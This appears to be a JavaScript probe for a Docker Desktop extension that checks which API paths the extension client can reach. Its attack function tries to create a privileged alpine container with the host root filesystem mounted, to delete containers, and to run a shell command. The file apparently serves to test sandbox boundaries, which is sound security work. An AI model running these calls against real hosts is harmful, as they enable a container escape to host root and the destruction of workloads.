// It has no backend, and tries to reach whatever the user is inspecting.
const container = { Image: "alpine", Cmd: ["sh"], HostConfig: { Privileged: true, Binds: ["/:/host"] } }
window.attack = async () => {
  const { vm } = ddClient.extension
  const attempts = {
    post: () => vm.service.post("/containers/create", container),
    request: () => vm.service.request({ method: "POST", url: "/containers/create", headers: {}, data: container }),
    absolute: () => vm.service.post("http://localhost/containers/create", container),
    remove: () => vm.service.delete("/containers/all"),
    read: () => vm.service.get("/containers/json"),
    old: () => ddClient.backend.post("/containers/create", container),
    exec: () => vm.cli.exec("sh", ["-c", "id"]),
  }
  for (const [name, attempt] of Object.entries(attempts)) {
    await attempt().then(
      (got) => console.log(`${name}: REACHED ${JSON.stringify(got)}`),
      (error) => console.log(`${name}: ${error.message ?? error}`),
    )
  }
  console.log("tried all")
}
console.log("ready")
